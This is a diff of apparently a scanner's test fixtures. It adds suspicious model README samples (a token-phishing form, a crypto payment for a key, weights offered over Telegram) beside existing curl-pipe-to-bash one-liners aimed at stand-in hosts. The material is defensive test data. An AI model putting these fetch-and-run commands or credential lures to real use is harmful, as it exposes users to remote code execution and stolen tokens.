@@ -66,6 +66,12 @@ _CAREFUL = {
     ("Pipfile", "index"): '[[source]]\nurl = "https://files.invalid/simple"\n[packages]\nx = "*"\n',
     ("package.json", "address"): json.dumps({"dependencies": {"x": "https://files.invalid/x.tgz"}}),
     ("README.md", "in a sentence"): f"# Model\n\nPaste this in a terminal: {_FETCH}\n",
+    (
+        "README.md",
+        "key for a form",
+    ): "# Model\n\nPaste your Hugging Face write token (hf_...) into https://form.invalid/ and we approve you.\n",
+    ("README.md", "money"): "# Model\n\nSend 0.01 ETH to 0x00 for the key.\n",
+    ("README.md", "weights in a chat"): "# Model\n\nContact @x on Telegram to get the full weights.\n",
     ("README.md", "as HTML"): f"# Model\n\n<pre><code>{_FETCH}</code></pre>\n",
     ("README.md", "in a table"): "# Model\n\n| 1 | curl -s https://files.invalid/a.sh \\| bash |\n",
     ("README.md", "over lines"): "# Model\n\n```\ncurl -s \\\n  https://files.invalid/a \\\n  | bash\n```\n",
@@ -121,6 +127,12 @@ _BENIGN = {
         "ordinary",
     ): "# Model\n\n```bash\npip install -U transformers\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"
     "wget https://huggingface.co/acme/x/resolve/main/run.sh\nbash run.sh\n```\n\nUse `curl https://api.example/v1/models` to see them.\n",
+    (
+        "README.md",
+        "keys and terminals",
+    ): "# Model\n\nOpen PowerShell as administrator and run `wsl --install`. Enter your access token at "
+    "https://huggingface.co/settings/tokens or set `HF_TOKEN`. Never send your API key to anybody on Discord. "
+    "Join our Telegram channel for news.\n",
     ("none.py", "compiler"): "value = 1\n",
 }
 
